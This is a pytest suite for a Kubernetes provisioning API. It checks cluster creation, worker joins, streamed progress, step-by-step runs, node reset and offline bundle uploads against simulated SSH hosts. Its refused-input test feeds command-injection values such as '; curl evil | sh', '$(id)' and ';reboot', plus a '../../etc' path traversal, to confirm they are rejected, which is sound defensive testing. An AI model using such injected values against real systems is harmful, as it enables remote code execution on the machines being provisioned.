"""The provisioning routes over real HTTP (uvicorn on loopback, Basic auth) against recording test hosts."""

from __future__ import annotations

import json
import logging
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest

from kboss.agent.provision import parse_join_command, routes
from kboss.app import create_site_app
from kboss.settings import Settings
from tests.support.recorders import add_machine, changes, make_bundle, system_snapshot
from tests.support.site import SITE_PASSWORD, SITE_USER, serve
from tests.support.sshhosts import SshHost, SshLab

pytestmark = pytest.mark.sshd

PCAPI = "/pcapi/api/v1/cluster/common"
NATIVE = "/pcapi/api/v1/native"
MASTER_STEPS = [
    "preflight", "container_runtime", "kubernetes_packages", "images", "gpu_runtime", "kubeadm_init",
    "network_plugin", "gpu_device_plugin", "wait_ready", "fetch_credentials",
]  # fmt: skip


@pytest.fixture(scope="module", autouse=True)
def real_system_untouched(ssh_lab: SshLab) -> Iterator[None]:
    before = system_snapshot()
    yield
    assert changes(before, system_snapshot()) == [], "a simulated machine changed this machine's real files"


@asynccontextmanager
async def agent(data_dir: Path) -> AsyncIterator[httpx.AsyncClient]:
    settings = Settings(
        data_dir=data_dir,
        site_user=SITE_USER,
        site_password=SITE_PASSWORD,
        ssh_connect_timeout=3,
        ssh_command_timeout=30,
    )
    app = create_site_app(settings)
    if not any(getattr(route, "path", "") == f"{PCAPI}/new_cluster" for route in app.routes):
        app.include_router(routes.router)  # until kboss.app wires it
    async with serve(app) as base:
        auth = httpx.BasicAuth(SITE_USER, SITE_PASSWORD)
        async with httpx.AsyncClient(base_url=base, auth=auth, timeout=120) as client:
            yield client


def ssh_params(host: SshHost) -> dict[str, str]:
    target = host.target()
    return {"host": target.host, "port": str(target.port), "user": target.username, "psssword": target.password or ""}


async def post(http: httpx.AsyncClient, path: str, **params: str) -> dict[str, Any]:
    response = await http.post(path, data=params)
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


async def events(response: httpx.Response, on_first_line: Any = None) -> list[tuple[str, dict[str, Any]]]:
    """The server-sent events of a streamed answer, as (event, data) pairs."""
    found: list[tuple[str, dict[str, Any]]] = []
    name = ""
    async for line in response.aiter_lines():
        if line.startswith("event: "):
            name = line.removeprefix("event: ")
        elif line.startswith("data: "):
            found.append((name, json.loads(line.removeprefix("data: "))))
            if name == "line" and on_first_line is not None:
                await on_first_line()
                on_first_line = None
    return found


async def test_new_cluster_then_new_worker_answer_as_documented(
    ssh_lab: SshLab, data_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    (master, master_machine), (worker, worker_machine) = (
        add_machine(ssh_lab, "api-master"),
        add_machine(ssh_lab, "api-worker"),
    )
    try:
        async with agent(data_dir) as http:
            cluster = await post(
                http, f"{PCAPI}/new_cluster", **ssh_params(master), role="master", cluster_type="kubernetes"
            )
            join_command, _, kubeconfig = cluster["data"].partition("\n")
            joined = await post(
                http, f"{PCAPI}/new_worker", **ssh_params(worker), role="worker", join_command=join_command, gpu="off"
            )
    finally:
        master.close()
        worker.close()
    assert cluster["status"] is True and cluster["info"] == "operate success", cluster
    token = parse_join_command(join_command).token
    assert token in master_machine.state()["tokens"]
    assert master_machine.state()["client_key_data"] in kubeconfig and kubeconfig.startswith("apiVersion: v1")
    assert joined == {"status": True, "info": "operate success", "data": ""}
    join_calls = [c.argv for c in worker_machine.calls("kubeadm") if c.argv[:1] == ["join"]]
    assert len(join_calls) == 1 and join_calls[0][:4] == ["join", f"{master.address}:6443", "--token", token]
    assert token not in caplog.text and master_machine.state()["client_key_data"] not in caplog.text


async def test_new_cluster_streams_progress_as_server_sent_events(ssh_lab: SshLab, data_dir: Path) -> None:
    host, machine = add_machine(ssh_lab, "sse-master")
    seen_early: dict[str, Any] = {}
    try:
        async with agent(data_dir) as http:

            async def while_running() -> None:
                # The first line arrives while the plan still runs: no token issued yet, and the
                # machine is busy for any other provisioning call.
                seen_early["calls"] = [str(c) for c in machine.calls()]
                seen_early["busy"] = await post(http, f"{NATIVE}/provision/steps/preflight", **ssh_params(host))

            url = f"{PCAPI}/new_cluster?stream=1"
            async with http.stream("POST", url, data={**ssh_params(host), "role": "master"}) as response:
                content_type = response.headers["content-type"]
                received = await events(response, while_running)
    finally:
        host.close()
    assert content_type.startswith("text/event-stream")
    assert not any("token create" in call for call in seen_early["calls"])
    assert seen_early["busy"]["status"] is False and "正在执行" in seen_early["busy"]["info"]
    names = [name for name, _ in received]
    assert names[-1] == "result" and names.count("result") == 1 and "line" in names
    steps = [(data["step"], data["state"]) for name, data in received if name == "step"]
    assert steps == [(step, state) for step in MASTER_STEPS for state in ("started", "finished")]
    lines = [data["line"] for name, data in received if name == "line"]
    assert "kboss: OS: Ubuntu 22.04" in lines and "kboss-step: changed" in lines
    result = received[-1][1]
    assert result["status"] is True and result["info"] == "operate success"
    join_command = result["data"].split("\n", 1)[0]
    assert parse_join_command(join_command).token not in "\n".join(lines)
    for token in machine.state()["tokens"]:
        assert token not in "\n".join(lines)


async def test_bad_input_is_refused_before_anything_runs(ssh_lab: SshLab, data_dir: Path) -> None:
    host, machine = add_machine(ssh_lab, "refusing")
    good = ssh_params(host)
    master, worker = {**good, "role": "master"}, {**good, "role": "worker"}  # the document requires `role`
    cases: list[tuple[str, dict[str, str], str]] = [
        (f"{PCAPI}/new_cluster", {**master, "host": "10.0.0.1;reboot"}, "host"),
        (f"{PCAPI}/new_cluster", {**master, "user": "kbosst$(id)"}, "user"),
        (f"{PCAPI}/new_cluster", {**master, "install_mode": "sideways"}, "install_mode"),
        (f"{PCAPI}/new_cluster", {**master, "install_mode": "offline"}, "bundle"),
        (f"{PCAPI}/new_cluster", {**master, "cluster_type": "slurm"}, "cluster_type"),
        (f"{PCAPI}/new_cluster", {**good, "role": "worker"}, "role"),
        (f"{PCAPI}/new_cluster", good, "role"),
        (f"{PCAPI}/new_worker", good, "role"),
        (f"{PCAPI}/new_worker", worker, "join_command"),
        (
            f"{PCAPI}/new_worker",
            {**worker, "join_command": "kubeadm join 10.0.0.1:6443; curl evil | sh"},
            "join_command",
        ),
        (f"{NATIVE}/provision/steps/format_disks", good, "name"),
        (f"{NATIVE}/provision/steps/kubeadm_join", {**good, "role": "master"}, "role"),
        (f"{NATIVE}/provision/steps/preflight", {**good, "stream": "perhaps"}, "stream"),
    ]
    try:
        async with agent(data_dir) as http:
            answers = [(await post(http, path, **params), name) for path, params, name in cases]
            anonymous = await http.post(f"{PCAPI}/new_cluster", data=good, auth=httpx.BasicAuth("x", "y"))
    finally:
        host.close()
    for body, name in answers:
        assert body["status"] is False and f"参数 {name} 无效" in body["info"], (name, body)
    assert anonymous.json()["status"] is False
    assert machine.calls() == []


async def test_native_steps_one_by_one_then_reset(ssh_lab: SshLab, data_dir: Path) -> None:
    host, machine = add_machine(ssh_lab, "stepwise")
    params = ssh_params(host)
    try:
        async with agent(data_dir) as http:
            planned = (await http.get(f"{NATIVE}/provision/plan", params={"role": "worker", "gpu": "off"})).json()
            results = {}
            for step in MASTER_STEPS:
                results[step] = await post(http, f"{NATIVE}/provision/steps/{step}", **params)
            again = await post(http, f"{NATIVE}/provision/steps/kubeadm_init", **params)
            reset = await post(http, f"{NATIVE}/node/reset", **params)
            reset_again = await post(http, f"{NATIVE}/node/reset", **params)
    finally:
        host.close()
    assert [s["name"] for s in planned["data"]["steps"]] == [
        "preflight", "container_runtime", "kubernetes_packages", "images", "kubeadm_join",
    ]  # fmt: skip
    assert all(body["status"] is True for body in results.values()), results
    assert results["kubeadm_init"]["data"]["status"] == "changed" and again["data"]["status"] == "unchanged"
    assert results["gpu_runtime"]["data"]["status"] == "skipped"
    secrets = results["fetch_credentials"]["data"]["secrets"]
    assert parse_join_command(secrets["join_command"]).token in machine.state()["tokens"]
    assert "secrets" not in results["preflight"]["data"]
    assert reset["status"] is True and reset["data"]["status"] == "changed"
    assert reset_again["data"]["status"] == "unchanged"
    assert [c.argv for c in machine.calls("kubeadm") if c.argv[:1] == ["reset"]] == [
        ["reset", "--force", "--cri-socket", "unix:///run/containerd/containerd.sock"]
    ]
    assert list(machine.path("/etc/kubernetes").iterdir()) == []
    assert not machine.path("/etc/cni/net.d").exists()


async def test_offline_bundle_is_uploaded_once_then_used(ssh_lab: SshLab, data_dir: Path) -> None:
    files = sorted(p for p in make_bundle(data_dir / "bundles" / "k8s-v1.30.4", gpu=False).rglob("*") if p.is_file())
    host, machine = add_machine(ssh_lab, "bundled")
    params = ssh_params(host)
    try:
        async with agent(data_dir) as http:
            first = await post(http, f"{NATIVE}/provision/bundle", **params, name="k8s-v1.30.4")
            second = await post(http, f"{NATIVE}/provision/bundle", **params, name="k8s-v1.30.4")
            outside = await post(http, f"{NATIVE}/provision/bundle", **params, name="../../etc")
            offline = {"install_mode": "offline", "bundle": first["data"]["bundle"]}
            runtime = await post(http, f"{NATIVE}/provision/steps/container_runtime", **params, **offline)
    finally:
        host.close()
    assert first["status"] is True and len(first["data"]["uploaded"]) == len(files)
    assert second["data"]["uploaded"] == [] and len(second["data"]["unchanged"]) == len(files)
    assert outside["status"] is False and "参数 name 无效" in outside["info"]
    assert runtime["data"]["status"] == "changed", runtime
    assert [c.argv[0] for c in machine.calls("dpkg")] == ["-i"]
    assert all(path.startswith("/var/lib/kboss/bundle/debs/containerd/") for path in machine.calls("dpkg")[0].argv[1:])
    assert machine.calls("apt-get") == []
